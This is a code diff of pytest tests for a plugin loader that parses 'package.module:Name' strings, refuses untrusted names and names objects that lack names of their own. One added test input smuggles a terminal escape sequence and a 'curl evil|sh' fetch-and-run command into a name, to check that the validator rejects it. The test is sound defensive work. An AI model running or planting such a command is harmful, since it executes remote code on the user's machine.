@@ -1,3 +1,4 @@
+import functools
 import sys
 
 import pytest
@@ -29,7 +30,7 @@ def test_a_name_that_only_a_file_has_is_refused_and_nothing_runs(module, tmp_pat
         plugins.load(f"{module}:Inner", "env_id")
     assert str(refused.value) == (
         "env_id = 'strangers_code:Inner': names code that would be imported; if you trust it, "
-        "pass --env-id strangers_code:Inner or --trust (in Python: trust=True)"
+        "pass --trust (in Python: trust=True)"
     )
     assert not (tmp_path / "ran").exists()
 
@@ -74,8 +75,9 @@ def test_two_functions_without_a_name_of_their_own_are_told_apart():
 @pytest.mark.parametrize(
     ("name", "text", "said"),
     [
-        ("m:test.<locals>.make", "", "is a local function or an object of another process; pass"),
-        ("m:Chain()2", "", "is a local function or an object of another process; pass it again"),
+        ("m:test.<locals>.make", "", "is a local function or an object, which only the process"),
+        ("m:Chain()2", "", "is a local function or an object, which only the process that made"),
+        ("m:B\n\x1b[2J; curl evil|sh", "", "must be of the form package.module:Name"),
         ("a:b:c", "", "must be of the form package.module:Name"),
         (":Name", "", "must be of the form package.module:Name"),
         ("not here:Name", "", "must be of the form package.module:Name"),
@@ -96,3 +98,17 @@ def test_what_cannot_be_imported_is_one_line(name, text, said, tmp_path):
         sys.modules.pop("broken_code", None)
     assert "\n" not in str(refused.value)
     assert str(refused.value).startswith(f"env_id = {name!r}: ")
+
+
+def test_a_name_that_the_user_writes_means_the_importable_class_again(module):
+    plugins.give(int, f"{module}:Inner")
+    assert plugins.load(f"{module}:Inner", "algorithm") is int
+    plugins.write(f"{module}:Inner")
+    assert plugins.load(f"{module}:Inner", "algorithm").value == 7
+
+
+def test_what_has_no_name_of_its_own_is_named_after_its_class():
+    make = functools.partial(int, "7")
+    name = plugins.give(make)
+    assert name == "functools:partial()1"
+    assert plugins.load(name, "env_id") is make
